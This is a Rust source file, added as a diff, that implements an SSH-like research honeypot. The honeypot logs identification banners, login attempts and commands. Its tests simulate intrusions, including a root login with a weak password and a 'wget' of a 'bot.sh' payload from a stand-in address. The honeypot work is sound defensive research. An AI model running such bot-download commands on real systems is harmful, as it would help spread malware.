@@ -1,0 +1,322 @@
+//! SSH-flavoured honeypot listener.
+//!
+//! Implements the part of SSH the paper's analyses actually use — the
+//! RFC 4253 §4.2 plaintext identification-string exchange, which is where
+//! Cowrie learns the client software version — and then switches to a
+//! *documented plaintext framing* for authentication and command execution
+//! (DESIGN.md substitution: the encrypted transport adds no analytical
+//! surface, and this reproduction must never accept real attacker traffic
+//! anyway).
+//!
+//! Framing after the identification exchange (one line per message, LF or
+//! CRLF terminated):
+//!
+//! ```text
+//! client: USER <name>
+//! client: PASS <password>
+//! server: AUTH-OK | AUTH-FAIL | AUTH-FAIL-CLOSE
+//! client: <command line>          (after AUTH-OK; any line is a command)
+//! server: <command output> …
+//! server: ##                      (prompt marker ending each output)
+//! client: EXIT                    (polite close)
+//! ```
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use hf_geo::Ip4;
+use hf_honeypot::{AuthResult, HoneypotConfig, SessionDriver, SessionRecord};
+use hf_proto::creds::Credentials;
+use hf_proto::ssh_ident::{server_ident, SshIdent, MAX_IDENT_LEN};
+use hf_proto::Protocol;
+use hf_shell::{RemoteFetcher, SyntheticFetcher};
+use hf_simclock::SimInstant;
+use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
+use tokio::net::{TcpListener, TcpStream};
+use tokio::sync::mpsc;
+
+/// A running SSH-flavoured honeypot listener.
+pub struct SshHoneypotServer {
+    /// Bound address.
+    pub local_addr: SocketAddr,
+    handle: tokio::task::JoinHandle<()>,
+}
+
+impl SshHoneypotServer {
+    /// Bind and start serving.
+    pub async fn start(
+        addr: SocketAddr,
+        config: HoneypotConfig,
+        honeypot_id: u16,
+        clock_base: SimInstant,
+        sink: mpsc::UnboundedSender<SessionRecord>,
+    ) -> std::io::Result<SshHoneypotServer> {
+        let listener = TcpListener::bind(addr).await?;
+        let local_addr = listener.local_addr()?;
+        let handle = tokio::spawn(async move {
+            loop {
+                let Ok((stream, peer)) = listener.accept().await else {
+                    break;
+                };
+                let config = config.clone();
+                let sink = sink.clone();
+                tokio::spawn(async move {
+                    let rec = handle_conn(stream, peer, config, honeypot_id, clock_base).await;
+                    let _ = sink.send(rec);
+                });
+            }
+        });
+        Ok(SshHoneypotServer { local_addr, handle })
+    }
+
+    /// Stop accepting connections.
+    pub fn shutdown(self) {
+        self.handle.abort();
+    }
+}
+
+fn peer_ip(peer: SocketAddr) -> Ip4 {
+    match peer.ip() {
+        std::net::IpAddr::V4(v4) => Ip4::from(v4),
+        std::net::IpAddr::V6(v6) => v6
+            .to_ipv4_mapped()
+            .map(Ip4::from)
+            .unwrap_or(Ip4::new(0, 0, 0, 0)),
+    }
+}
+
+async fn handle_conn(
+    stream: TcpStream,
+    peer: SocketAddr,
+    config: HoneypotConfig,
+    honeypot_id: u16,
+    clock_base: SimInstant,
+) -> SessionRecord {
+    let started = std::time::Instant::now();
+    let preauth = Duration::from_secs(config.preauth_timeout_secs as u64);
+    let idle = Duration::from_secs(config.idle_timeout_secs as u64);
+    let fetcher: Box<dyn RemoteFetcher> = Box::new(SyntheticFetcher);
+    let mut driver = SessionDriver::accept(
+        config,
+        honeypot_id,
+        Protocol::Ssh,
+        peer_ip(peer),
+        peer.port(),
+        clock_base,
+        fetcher,
+    );
+
+    let (read_half, mut write_half) = stream.into_split();
+    let mut reader = BufReader::new(read_half).take(1 << 20);
+
+    // 1. Identification exchange (RFC 4253 §4.2).
+    if write_half
+        .write_all(&server_ident().wire_bytes())
+        .await
+        .is_err()
+    {
+        driver.client_close();
+        return driver.into_record();
+    }
+    let mut ident_line = String::new();
+    match tokio::time::timeout(preauth, reader.read_line(&mut ident_line)).await {
+        Ok(Ok(n)) if n > 0 && ident_line.len() <= MAX_IDENT_LEN => {
+            if let Ok(ident) = SshIdent::parse(&ident_line) {
+                driver.client_banner(&ident.render());
+            }
+            // Lines that fail to parse are recorded as nothing — like a
+            // scanner poking the port without speaking SSH.
+        }
+        Ok(_) => {
+            sync_clock(&mut driver, started);
+            driver.client_close();
+            return driver.into_record();
+        }
+        Err(_) => {
+            sync_clock(&mut driver, started);
+            driver.advance(preauth.as_secs() as u32 + 1);
+            return driver.into_record();
+        }
+    }
+
+    // 2. Plaintext auth + exec framing.
+    let mut username: Option<String> = None;
+    let mut line = String::new();
+    let mut last_activity = std::time::Instant::now();
+    loop {
+        let limit = if driver.authenticated() { idle } else { preauth };
+        let Some(remaining) = limit.checked_sub(last_activity.elapsed()) else {
+            sync_clock(&mut driver, started);
+            driver.advance(limit.as_secs() as u32 + 1);
+            break;
+        };
+        line.clear();
+        let read = tokio::time::timeout(remaining, reader.read_line(&mut line)).await;
+        match read {
+            Err(_) => {
+                sync_clock(&mut driver, started);
+                driver.advance(limit.as_secs() as u32 + 1);
+                break;
+            }
+            Ok(Err(_)) | Ok(Ok(0)) => {
+                sync_clock(&mut driver, started);
+                driver.client_close();
+                break;
+            }
+            Ok(Ok(_)) => {}
+        }
+        last_activity = std::time::Instant::now();
+        let msg = line.trim_end_matches(['\r', '\n']).to_string();
+        let think = think_secs(&driver, started);
+
+        if !driver.authenticated() {
+            if let Some(u) = msg.strip_prefix("USER ") {
+                username = Some(u.to_string());
+                continue;
+            }
+            if let Some(p) = msg.strip_prefix("PASS ") {
+                let user = username.take().unwrap_or_default();
+                match driver.offer_credentials(Credentials::new(&user, p), think) {
+                    AuthResult::Accepted => {
+                        let _ = write_half.write_all(b"AUTH-OK\n").await;
+                    }
+                    AuthResult::Rejected => {
+                        let _ = write_half.write_all(b"AUTH-FAIL\n").await;
+                    }
+                    AuthResult::Disconnected => {
+                        let _ = write_half.write_all(b"AUTH-FAIL-CLOSE\n").await;
+                        break;
+                    }
+                }
+                continue;
+            }
+            // Anything else pre-auth is ignored (matching SSH clients that
+            // send KEX blobs we don't parse).
+            continue;
+        }
+
+        if msg == "EXIT" {
+            sync_clock(&mut driver, started);
+            driver.client_close();
+            break;
+        }
+        if let Some(output) = driver.run_command(&msg, think) {
+            if write_half.write_all(output.as_bytes()).await.is_err()
+                || write_half.write_all(b"##\n").await.is_err()
+            {
+                driver.client_close();
+                break;
+            }
+        }
+        if driver.finished() {
+            break;
+        }
+    }
+    driver.into_record()
+}
+
+fn sync_clock(driver: &mut SessionDriver, started: std::time::Instant) {
+    let wall = started.elapsed().as_secs();
+    let sim = driver.now().0;
+    if wall > sim {
+        let _ = driver.advance((wall - sim) as u32);
+    }
+}
+
+fn think_secs(driver: &SessionDriver, started: std::time::Instant) -> u32 {
+    started.elapsed().as_secs().saturating_sub(driver.now().0) as u32
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use hf_shell::SystemProfile;
+    use tokio::io::AsyncReadExt;
+
+    async fn start_server() -> (SshHoneypotServer, mpsc::UnboundedReceiver<SessionRecord>) {
+        let (tx, rx) = mpsc::unbounded_channel();
+        let srv = SshHoneypotServer::start(
+            "127.0.0.1:0".parse().unwrap(),
+            HoneypotConfig::paper(SystemProfile::default()),
+            3,
+            SimInstant::EPOCH,
+            tx,
+        )
+        .await
+        .unwrap();
+        (srv, rx)
+    }
+
+    async fn read_line(s: &mut TcpStream) -> String {
+        let mut buf = [0u8; 512];
+        let n = s.read(&mut buf).await.unwrap();
+        String::from_utf8_lossy(&buf[..n]).to_string()
+    }
+
+    #[tokio::test]
+    async fn ident_exchange_and_intrusion() {
+        let (srv, mut rx) = start_server().await;
+        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
+        let banner = read_line(&mut s).await;
+        assert!(banner.starts_with("SSH-2.0-OpenSSH"), "{banner}");
+        s.write_all(b"SSH-2.0-Go\r\n").await.unwrap();
+        s.write_all(b"USER root\nPASS 1234\n").await.unwrap();
+        let reply = read_line(&mut s).await;
+        assert!(reply.contains("AUTH-OK"), "{reply}");
+        s.write_all(b"uname -a\n").await.unwrap();
+        let out = read_line(&mut s).await;
+        assert!(out.contains("Linux"), "{out}");
+        s.write_all(b"EXIT\n").await.unwrap();
+        let rec = rx.recv().await.unwrap();
+        assert_eq!(rec.ssh_client_version.as_deref(), Some("SSH-2.0-Go"));
+        assert!(rec.login_succeeded());
+        assert_eq!(rec.commands.len(), 1);
+        srv.shutdown();
+    }
+
+    #[tokio::test]
+    async fn root_root_is_rejected() {
+        let (srv, mut rx) = start_server().await;
+        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
+        let _ = read_line(&mut s).await;
+        s.write_all(b"SSH-2.0-libssh_0.9.6\r\n").await.unwrap();
+        s.write_all(b"USER root\nPASS root\n").await.unwrap();
+        let reply = read_line(&mut s).await;
+        assert!(reply.contains("AUTH-FAIL"), "{reply}");
+        drop(s);
+        let rec = rx.recv().await.unwrap();
+        assert_eq!(rec.logins.len(), 1);
+        assert!(!rec.login_succeeded());
+        srv.shutdown();
+    }
+
+    #[tokio::test]
+    async fn garbage_ident_still_yields_record() {
+        let (srv, mut rx) = start_server().await;
+        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
+        let _ = read_line(&mut s).await;
+        s.write_all(b"GET / HTTP/1.1\r\n").await.unwrap();
+        drop(s);
+        let rec = rx.recv().await.unwrap();
+        assert_eq!(rec.ssh_client_version, None);
+        assert!(rec.logins.is_empty());
+        srv.shutdown();
+    }
+
+    #[tokio::test]
+    async fn download_over_live_ssh_records_hash() {
+        let (srv, mut rx) = start_server().await;
+        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
+        let _ = read_line(&mut s).await;
+        s.write_all(b"SSH-2.0-Go\r\n").await.unwrap();
+        s.write_all(b"USER root\nPASS abc\n").await.unwrap();
+        let _ = read_line(&mut s).await;
+        s.write_all(b"cd /tmp; wget http://203.0.113.9/bot.sh\n").await.unwrap();
+        let _ = read_line(&mut s).await;
+        s.write_all(b"EXIT\n").await.unwrap();
+        let rec = rx.recv().await.unwrap();
+        assert_eq!(rec.uris, vec!["http://203.0.113.9/bot.sh".to_string()]);
+        assert_eq!(rec.download_hashes.len(), 1);
+        srv.shutdown();
+    }
+}
